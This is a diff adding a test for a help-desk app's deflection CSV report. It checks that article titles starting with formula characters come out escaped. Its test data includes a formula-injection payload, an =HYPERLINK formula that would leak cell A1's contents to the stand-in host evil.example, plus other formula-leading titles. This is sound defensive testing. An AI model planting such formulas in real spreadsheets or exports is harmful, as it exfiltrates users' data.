@@ -185,3 +185,77 @@ describe('deflection figures', () => {
     expect(formatReport(before, 'table')).toMatch(/Deflection: 0 offers, 0 helped, 0 opened anyway, 0 no answer yet; rate - /);
   });
 });
+
+/** Split RFC 4180 CSV into rows of cell values (quotes undone). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  let i = 0;
+  while (i < text.length) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i += 2;
+        continue;
+      }
+      if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"' && cell === '') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
+    i++;
+  }
+  row.push(cell);
+  rows.push(row);
+  return rows;
+}
+
+describe('the deflection CSV', () => {
+  it('neutralises titles a spreadsheet would run as formulas, and leaves numbers as numbers', async () => {
+    desk = await createTestDesk();
+    // An offer shows at most three documents: two tickets, each matching its own articles. (A
+    // leading tab or CR never gets this far, titles being single cleaned lines; sla-report.test.ts
+    // checks those cells on a hand-made report.)
+    const hostile: Array<[string, string]> = [
+      ['=HYPERLINK("https://evil.example/?"&A1;"x")', 'The printer shows offline: power-cycle it.'],
+      ['+SUM(1;2)', 'The printer shows offline: re-add it.'],
+      ['-2+3', 'The scanner is jammed: open the lid.'],
+      ['@SUM(A1)', 'The scanner is jammed: pull the sheet.'],
+    ];
+    for (const [i, [title, body]] of hostile.entries()) {
+      const event: Inbound = { key: `deflect-test:${++seq}`, at: desk.clock.now(), from: person('agent2'), place: here, kind: 'command', name: 'kb', args: { sub: 'add', title, body } };
+      expect((await desk.send(event)) ?? '').toMatch(/Draft article #\d+ saved/);
+      await desk.say('agent2', `/kb publish ${i + 1}`);
+    }
+    const titles = (await desk.db.selectFrom('kb_articles').select('title').orderBy('id').execute()).map((r) => r.title);
+    expect(titles).toEqual(hostile.map(([t]) => t));
+    expect(await desk.say('requester', '/ticket new printer offline')).toMatch(/these may answer it/);
+    expect(await desk.say('requester', '/ticket new scanner jammed')).toMatch(/these may answer it/);
+
+    const report = await slaReport(desk.desk.core, { from: Date.parse('2024-06-01T00:00:00Z'), to: Date.parse('2024-06-04T00:00:00Z'), by: 'tier' });
+    expect(report.deflection?.docs.map((d) => d.title).sort()).toEqual([...titles].sort());
+    const text = formatReport(report, 'csv');
+    const rows = parseCsv(text);
+    const cells = rows.flat();
+    const number = /^-?\d+(\.\d+)?$/;
+    // No cell a spreadsheet would evaluate, except numbers we wrote ourselves.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !number.test(c))).toEqual([]);
+    // The titles are all there, each behind a single quote.
+    for (const t of titles) expect(cells).toContain(`'${t}`);
+    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1;""x"")"`);
+    // Figures stay bare numbers.
+    const doc1 = rows.find((r) => r[0] === 'article:1')!;
+    expect(doc1.slice(2)).toEqual(['1', '0', '0', '1', '0']);
+    expect(text).toContain('all,,2,0,0,2,0');
+  });
+});
